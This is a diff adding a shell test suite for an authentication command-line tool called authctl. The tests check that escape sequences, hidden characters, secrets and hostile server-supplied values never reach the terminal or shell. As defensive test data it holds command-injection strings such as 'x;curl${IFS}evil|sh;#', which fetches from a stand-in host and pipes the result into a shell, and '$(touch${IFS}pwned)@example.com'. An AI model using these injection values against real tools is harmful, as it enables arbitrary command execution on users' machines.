@@ -1,0 +1,259 @@
+# Text that a server, a project or a file chose: whatever is in it, it moves no terminal, runs in no shell, and nothing that
+# was sent comes back on a screen.
+
+# clean FILE…: nothing hidden stands in there: no control character, writing direction or zero width, raw or as C1 bytes.
+clean() {
+    python3 - "$@" <<'P' || fail "hidden characters were printed"
+import sys
+hidden = {*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F),
+          *range(0x2060, 0x2070), 0xFEFF, *range(0xE0000, 0xE0080)} - {10}
+for name in sys.argv[1:]:
+    for line in open(name, encoding="utf-8", newline="\n"):
+        found = [hex(ord(c)) for c in line if ord(c) in hidden]
+        if found: sys.exit(f"{name}: {found}: {ascii(line)}")
+        # What pretends to be a line of ours stands within one.
+        if line.startswith("authctl: hint: curl"): sys.exit(f"{name}: {ascii(line)}")
+P
+}
+
+# looks COMMAND…: it works as text, as JSON and with --verbose, and all of it is clean.
+looks() {
+    for more in "" --json --verbose; do works "$@" $more; clean stdout stderr; done
+}
+
+#: A client ID with escapes in it, given by registration, is refused, and nothing is stored.
+emulator --fault escapes-in-client-id
+exits 65 authctl providers add oidc.test --issuer "$ISSUER" --register
+err 'client_id.* is no client identifier'
+clean stdout stderr
+exits 65 authctl providers add oidc.test --issuer "$ISSUER" --register --json
+clean stdout stderr
+works authctl providers list
+no_out oidc.test
+[ ! -e "$HOME/.config/authctl/authctl.db" ] || ! grep -q '31mred' "$HOME/.config/authctl/config.yaml" || fail "it was stored"
+exits 78 authctl providers add oidc.test --issuer "$ISSUER" --client-id $'client\e[31m'
+clean stdout stderr
+
+#: A name and an address with escapes in them are shown escaped, as text and as JSON, and mean in JSON what they were.
+emulator --fault escapes-in-name --fault escapes-in-email
+works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
+works authctl signin --json
+clean stdout stderr
+json "'\x1b[31mred' in d['profile']['name'] and '\u202e' in d['account']['email']"
+works authctl signin
+clean stdout stderr
+for command in whoami status "accounts list" "accounts show" "providers list" "providers show oidc.test" "token" "reauth"; do looks authctl $command; done
+works authctl accounts export --json --reauth
+clean stdout stderr
+works authctl accounts lookup "$(authctl whoami --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["account"]["email"])')"
+clean stdout stderr
+works authctl doctor
+clean stdout stderr
+works authctl signout
+clean stdout stderr
+
+#: Errors with escapes in their code and their description stay one error line and one hint.
+emulator --fault escapes-in-error
+works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
+for more in "" --json --verbose; do exits 65 authctl signin $more; clean stdout stderr; done
+exits 65 authctl signin
+[ "$(wc -l <stderr)" -ge 2 ] && [ "$(grep -c '^authctl: hint: ' stderr)" = 1 ] || fail "one hint"
+
+#: A device's code and page with escapes in them are refused before anybody sees them.
+emulator --fault escapes-in-device
+works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
+for more in "" --json --verbose; do exits 65 authctl signin --flow device $more; clean stdout stderr; done
+exits 4 authctl token
+
+#: An address that is a command of the shell stays one word of the hint that is pasted into one.
+# Local directory alone: the hint is about the other account here.
+mkdir tools
+printf '#!/bin/sh\n>"%s/pwned"\n' "$PWD" >tools/curl
+chmod +x tools/curl
+emulator --fault hostile-email
+works authctl providers add oidc.first --issuer "$ISSUER" --client-id emulator-client --trust-email
+works authctl signin --provider oidc.first
+first=$ISSUER
+emulator --user grace@example.com
+works authctl providers add oidc.second --issuer "$ISSUER" --client-id emulator-client --trust-email
+works authctl signin --provider oidc.second
+emulator --fault hostile-email
+works authctl providers add oidc.third --issuer "$ISSUER" --client-id emulator-client --trust-email
+exits 6 authctl link --provider oidc.third
+grep '^authctl: hint: ' stderr | sed 's/.*: authctl/authctl/' >pasted
+grep -q "lookup 'x;curl" pasted || fail "the hint: $(cat pasted)"
+PATH=$PWD/tools:$PATH sh ./pasted >stdout 2>stderr || fail "the hint does not run"
+out '^oidc.first$'
+[ ! -e pwned ] || fail "the address was run"
+works authctl signout
+exits 6 authctl signin --provider oidc.third
+export BROWSER="$(command -v curl) -sS -L -o /dev/null"
+grep '^authctl: hint: ' stderr | sed 's/^authctl: hint: //; s/, or in one.*//' >pasted
+PATH=$PWD/tools:$PATH sh ./pasted >stdout 2>stderr || true
+[ ! -e pwned ] || fail "the address was run"
+
+#: Names that a shell would run are not offered by Tab: bash expands the words it completes.
+emulator --user '$(touch${IFS}pwned)@example.com'
+works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client
+works authctl signin
+cat >ask.bash <<'B'
+. "$ROOT/completions/authctl.bash"
+COMP_WORDS=(authctl accounts switch ''); COMP_CWORD=3; COMP_LINE='authctl accounts switch '; COMP_POINT=${#COMP_LINE}; COMP_TYPE=9
+_authctl authctl '' switch; printf '%s\n' "${COMPREPLY[@]}"
+B
+export ROOT
+works bash ask.bash
+[ ! -e pwned ] || fail "pressing Tab ran a command"
+no_out 'touch|example.com'
+
+#: A server that repeats every secret of a request, in every spelling, gets none of them printed.
+for way in client_secret_basic client_secret_post none; do
+    secret=client-secret/of+the-test
+    emulator --fault echo-secret --client-secret "$secret"
+    printf %s "$secret" >client-secret
+    works authctl providers add oidc.$way --issuer "$ISSUER" --client-id emulator-client --client-secret-file "$PWD/client-secret" --auth-method $way
+    for flow in browser device client-credentials; do
+        for more in "" --json --verbose; do
+            exits 78 authctl signin --provider oidc.$way --flow $flow $more
+            clean stdout stderr
+            python3 - "$secret" <<'P' || fail "a secret came back"
+import base64, sys, urllib.parse
+said = open("stdout").read() + open("stderr").read()
+secrets = {sys.argv[1], *open("secrets").read().split()}
+for secret in secrets:
+    spelled = {secret, urllib.parse.quote(secret, safe=""), "".join("%%%02x" % b for b in secret.encode())}
+    for offset in range(3):
+        spelled.add(base64.urlsafe_b64encode(b"x" * offset + secret.encode()).decode()[4:-4])
+        spelled.add(base64.b64encode(b"x" * offset + secret.encode()).decode()[4:-4])
+    found = [s for s in spelled if s in said]
+    if found: sys.exit(f"{found} in {said}")
+P
+        done
+        [ $way = none ] || err '<redacted>' || failed "'<redacted>' in e['message']"
+    done
+done
+
+#: A trace shows the values of harmless headers alone.
+firebase
+AUTHCTL_FIREBASE_APP_CHECK_TOKEN=app-check-token-of-the-test authctl signin --provider password --email a@example.com --create --password-stdin --verbose <<<'correct horse battery staple' >stdout 2>stderr || fail "exit $?"
+err 'X-Firebase-AppCheck: <redacted>'
+err 'Content-Type: application/json'
+no_err 'app-check-token|horse|test-key'
+clean stdout stderr
+
+#: What a person puts into a request's headers is theirs.
+signed_in
+works authctl request "$ISSUER/userinfo" -H 'X-Api-Key: key-of-the-test' -H 'Cookie: session=cookie-of-the-test' -H 'PRIVATE-TOKEN: token-of-the-test' -H 'Accept: application/json' --verbose
+err '> Cookie: <redacted>'
+err '> X-Api-Key: <redacted>'
+err '> PRIVATE-TOKEN: <redacted>'
+err '> Authorization: <redacted>'
+err '> Accept: application/json'
+no_err 'of-the-test'
+
+#: A Firebase project's names of providers and accounts are names, or its answer is refused.
+export FIREBASE_FLAGS="--fault escapes-in-provider"
+firebase
+exits 65 bash -c 'authctl signin --provider password --email a@example.com --create --password-stdin <<<"correct horse battery staple"'
+clean stdout stderr
+exits 65 authctl accounts lookup a@example.com
+clean stdout stderr
+exits 65 authctl accounts lookup a@example.com --json
+clean stdout stderr
+exits 4 authctl whoami
+! grep -rqa '31mred' "$HOME/.config/authctl" || fail "it was stored"
+exits 4 authctl token
+
+#: The same with an account's identifier.
+export FIREBASE_FLAGS="--fault escapes-in-uid"
+firebase
+exits 65 bash -c 'authctl signin --provider password --email a@example.com --create --password-stdin <<<"correct horse battery staple"'
+clean stdout stderr
+exits 4 authctl whoami
+
+#: The same with a provider that is a command of the shell, which a conflict would tell people to sign in with.
+export FIREBASE_FLAGS="--fault hostile-provider"
+firebase
+provider google.com --user linus@example.com
+authctl signin --provider google.com >stdout 2>stderr </dev/null && fail "signed in" || [ $? = 65 ] || fail "exit"
+no_err 'evil.example'
+clean stdout stderr
+
+#: An import whose names are none is refused as a whole.
+python3 - <<'P'
+import json
+def account(n, provider):
+    return {"uid": f"uid-{n}", "email": f"a{n}@example.com", "createdAt": "2026-11-21T08:00:00Z",
+            "providerData": [{"providerId": provider, "authority": "https://a.example", "federatedId": str(n)}]}
+for name, provider in [("escapes", "\x1b[31mred\u202e"), ("hostile", "x;curl${IFS}evil|sh;#"), ("empty", ""), ("long", "x" * 129)]:
+    json.dump({"version": 1, "accounts": [account(1, "oidc.fine"), account(2, provider)]}, open(name, "w"))
+hidden = account(1, "oidc.fine") | {"displayName": "\x1b[31mred\u202e", "email": "\x9b2J@example.com"}
+json.dump({"version": 1, "accounts": [hidden]}, open("shown", "w"))
+P
+for name in escapes hostile empty long; do
+    exits 65 authctl accounts import $name
+    clean stdout stderr
+done
+works authctl accounts list
+[ ! -s stdout ] || fail "some were imported"
+works authctl accounts import shown
+looks authctl accounts list
+works authctl accounts list --json
+json "d['accounts'][0]['displayName'] == '\x1b[31mred\u202e'"
+
+#: The body of an answer, and a payload, go to a pipe as they are and to a terminal escaped.
+signed_in
+printf '\033[31mred\302\233\342\200\256\tx\n' >raw
+python3 - >page.url <<'P' &
+import http.server
+class Page(http.server.BaseHTTPRequestHandler):
+    def log_message(self, *_): pass
+    def do_GET(self):
+        body = open("raw", "rb").read()
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+server = http.server.HTTPServer(("127.0.0.1", 0), Page)
+print(server.server_port, flush=True)
+server.serve_forever()
+P
+servers+=($!)
+port=$(awaits page.url '[0-9]+')
+works authctl providers add oidc.test --issuer "$ISSUER" --client-id emulator-client --api-host "http://127.0.0.1:$port"
+works authctl request "http://127.0.0.1:$port/"
+cmp -s stdout raw || fail "a pipe gets another body"
+python3 "$ROOT/Tests/Servers/terminal.py" -- authctl request "http://127.0.0.1:$port/" >shown || fail "exit $?"
+tr -d '\r\t' <shown >stdout
+clean stdout
+out '\\u\{1b\}\[31mred\\u\{9b\}\\u\{202e\}'
+
+# A token whose payload is signed as it stands, which no JSON writer would write.
+openssl genrsa -out key.pem 2048 2>/dev/null
+python3 - "$ISSUER" <<'P'
+import base64, json, subprocess, sys, time
+b64 = lambda b: base64.urlsafe_b64encode(b).rstrip(b"=")
+modulus = int(subprocess.run(["openssl", "rsa", "-in", "key.pem", "-noout", "-modulus"], capture_output=True, text=True).stdout.split("=")[1], 16)
+json.dump({"keys": [{"kty": "RSA", "n": b64(modulus.to_bytes(256, "big")).decode(), "e": "AQAB", "alg": "RS256"}]}, open("jwks", "w"))
+claims = {"iss": sys.argv[1], "aud": "c", "sub": "1", "iat": int(time.time()), "exp": int(time.time()) + 600, "name": "a\x7f\x9b\u202eé"}
+def signed(payload):
+    text = b64(b'{"alg":"RS256"}') + b"." + b64(payload)
+    signature = subprocess.run(["openssl", "dgst", "-sha256", "-sign", "key.pem"], input=text, capture_output=True).stdout
+    return text + b"." + b64(signature)
+open("token", "wb").write(signed(json.dumps(claims, ensure_ascii=False).encode()) + b"\n")
+open("bare", "wb").write(signed(open("raw", "rb").read()) + b"\n")
+P
+works authctl verify token --jwks jwks --issuer "$ISSUER" --audience c
+clean stdout
+json "d['name'] == 'a\x7f\x9b\u202eé'"
+authctl verify - --jwks jwks --issuer "$ISSUER" --audience c <token >stdout || fail "exit $?"
+clean stdout
+json "d['valid'] and d['claims']['name'] == 'a\x7f\x9b\u202eé'"
+authctl verify - --jwks jwks --signature-only <bare >stdout || fail "exit $?"
+clean stdout
+json "d['payload'] == open('raw').read()"
+works authctl verify bare --jwks jwks --signature-only
+{ cat raw; echo; } | cmp -s - stdout || fail "a pipe gets another payload"
+python3 "$ROOT/Tests/Servers/terminal.py" -- authctl verify bare --jwks jwks --signature-only >shown || fail "exit $?"
+tr -d '\r\t' <shown >stdout
+clean stdout
